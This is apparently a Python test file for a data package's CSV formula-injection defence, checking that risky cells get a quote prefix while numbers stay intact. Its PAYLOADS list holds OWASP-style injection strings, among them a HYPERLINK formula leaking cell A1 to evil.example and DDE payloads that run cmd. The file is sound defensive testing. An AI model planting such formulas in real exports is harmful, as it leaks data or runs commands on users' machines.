"""Formula injection: cells that a spreadsheet would run are neutralised."""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pandas as pd
from hypothesis import given
from hypothesis import strategies as st

from cxgap.contracts.cells import FORMULA_STARTS, neutralise_cell, neutralise_frame, write_safe_csv

# Payloads from the OWASP "CSV Injection" page and common proof-of-concept lists.
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]


def test_every_known_payload_is_prefixed_with_a_quote() -> None:
    for payload in PAYLOADS:
        assert neutralise_cell(payload) == "'" + payload


def test_numbers_none_and_plain_text_are_unchanged() -> None:
    for value in (-5, -5.5, 0, 3.25, None, True, "Fast fixes", "", " =1", "'=1"):
        out = neutralise_cell(value)
        assert out == value and type(out) is type(value)


@given(st.text())
def test_a_neutralised_cell_never_starts_a_formula(text: str) -> None:
    out = neutralise_cell(text)
    assert not out.startswith(FORMULA_STARTS)
    # Nothing is lost: the original is the cell without the added quote.
    assert out == text or out == "'" + text


@given(st.one_of(st.integers(), st.floats(allow_nan=False)))
def test_numbers_stay_numbers(number: float) -> None:
    assert neutralise_cell(number) == number


@given(st.lists(st.text(), min_size=1, max_size=20))
def test_a_written_csv_reads_back_with_no_formula_cell(cells: list[str]) -> None:
    from tempfile import mkdtemp

    path = Path(mkdtemp()) / "out.csv"
    assert write_safe_csv(path, ["=header", "n"], [[c, -1.5] for c in cells]) == len(cells)
    with open(path, encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["'=header", "n"]
    assert len(rows) == len(cells) + 1
    for (cell, number), original in zip(rows[1:], cells, strict=True):
        assert not cell.startswith(FORMULA_STARTS)
        assert cell in (original, "'" + original)
        assert number == "-1.5"


def test_frame_text_columns_and_headers_are_neutralised_numbers_kept() -> None:
    frame = pd.DataFrame(
        {
            "open.improve": ["=HYPERLINK(1)", "ok", None],
            "ltr": [-1.0, 9.0, np.nan],
            "@team": ["-team", "support", "+1"],
        }
    )
    out = neutralise_frame(frame)
    assert list(out.columns) == ["open.improve", "ltr", "'@team"]
    assert out["open.improve"].tolist() == ["'=HYPERLINK(1)", "ok", None]
    assert out["ltr"].tolist()[:2] == [-1.0, 9.0] and np.isnan(out["ltr"].iloc[2])
    assert out["'@team"].tolist() == ["'-team", "support", "'+1"]
    assert frame["open.improve"].iloc[0] == "=HYPERLINK(1)"  # the input is not changed


def test_problem_report_never_writes_a_live_formula(tmp_path) -> None:  # type: ignore[no-untyped-def]
    from cxgap.errors import Problem
    from cxgap.ingest.responses import write_problem_report

    path = tmp_path / "problems.csv"
    write_problem_report(
        [Problem("export.csv", 3, "Q1", '=HYPERLINK("http://x","y")', "a number from 1 to 5")],
        path,
    )
    text = path.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text
    assert ",=HYPERLINK" not in text
